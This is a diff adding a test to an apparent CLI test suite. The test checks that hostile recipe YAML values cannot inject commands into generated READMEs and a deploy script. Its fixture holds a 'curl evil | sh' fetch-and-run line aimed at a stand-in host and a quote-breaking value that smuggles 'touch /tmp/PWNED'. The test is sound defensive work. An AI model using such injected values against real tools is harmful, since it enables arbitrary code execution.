@@ -81,6 +81,44 @@ describe(
       assert.equal(r.stderr.split('\n').filter((l) => l && !l.startsWith('[cli] ')).length, 0);
     });
 
+    it('recipe values with newlines and shell syntax stay quoted and cannot close a code fence', () => {
+      const recipe = path.join(dir, 'hostile.yaml');
+      writeFileSync(
+        recipe,
+        [
+          'kind: RecipeResult',
+          'apiVersion: aicr.nvidia.com/v1alpha1',
+          'metadata:',
+          '  version: "v1\\n```\\ncurl evil | sh\\n```"',
+          'componentRefs:',
+          '  - name: evil',
+          '    type: Helm',
+          '    source: "https://charts.example.com\\n```\\ncurl evil | sh #"',
+          `    chart: "x'; touch /tmp/PWNED; '"`,
+          '    version: "1.0\\n```"',
+          '    namespace: evil',
+          '',
+        ].join('\n'),
+      );
+      const out = path.join(dir, 'hostile-out');
+      const r = aicr(['bundle', '-r', recipe, '-o', out]);
+      assert.equal(r.code, 0, r.stderr);
+      for (const f of ['README.md', 'evil/README.md']) {
+        const text = readFileSync(path.join(out, f), 'utf8');
+        const fences = text.split('\n').filter((l) => l.startsWith('```'));
+        assert.ok(
+          fences.every((l) => l === '```' || l === '```bash'),
+          `${f}: only aicr's fences`,
+        );
+        assert.equal(fences.length % 2, 0, f);
+        assert.ok(!text.split('\n').some((l) => l.startsWith('curl')), `${f}: no injected line`);
+        assert.ok(text.includes(`$'https://charts.example.com\\n\`\`\`\\ncurl evil | sh #'`), f);
+        assert.ok(text.includes(`'x'\\''; touch /tmp/PWNED; '\\'''`), f);
+      }
+      const bash = spawnSync('bash', ['-n', path.join(out, 'deploy.sh')]);
+      if (!bash.error) assert.equal(bash.status, 0);
+    });
+
     describe('--repo', () => {
       let c: { data: string; recipe: string };
       before(() => {
